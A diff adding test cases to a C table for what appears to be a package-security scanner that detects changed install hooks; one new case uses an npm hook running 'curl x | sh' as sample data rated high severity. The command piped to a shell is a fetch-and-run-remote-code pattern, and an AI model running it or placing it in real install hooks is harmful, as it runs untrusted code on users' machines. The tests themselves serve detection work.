@@ -66,6 +66,13 @@ static const struct signal_case cases[] = {
         {.rows = {DEB("1.0-2", POSTINST("own:5678"))}}),
     MISS("HOOK_CHANGED", "a Debian script in a new upstream version", {.rows = {DEB("1.0-1", POSTINST("own:1234"))}},
          {.rows = {DEB("2.0-1", POSTINST("own:5678"))}}),
+    RATED("HOOK_CHANGED", SB_LEVEL_HIGH, 8, "a second copy runs what no copy did",
+          {.rows = {JS("1.0.1", HOOK("node a.js"), FILES_OK)}},
+          {.rows = {JS("1.0.1", HOOK("node a.js"), FILES_OK),
+                    {"pkg:npm/part@1.0.2", NM "a/" NM "part", {HOOK("curl x | sh"), FILES_OK}, NULL, NULL}}}),
+    MISS("HOOK_CHANGED", "a second copy that runs the same", {.rows = {JS("1.0.1", HOOK("node a.js"), FILES_OK)}},
+         {.rows = {JS("1.0.1", HOOK("node a.js"), FILES_OK),
+                   {"pkg:npm/part@1.0.2", NM "a/" NM "part", {HOOK("node a.js"), FILES_OK}, NULL, NULL}}}),
     MISS("HOOK_CHANGED", "the same", {.rows = {JS("1.0.1", HOOK("node a.js"))}},
          {.rows = {JS("1.1.0", HOOK("node a.js"))}}),
 
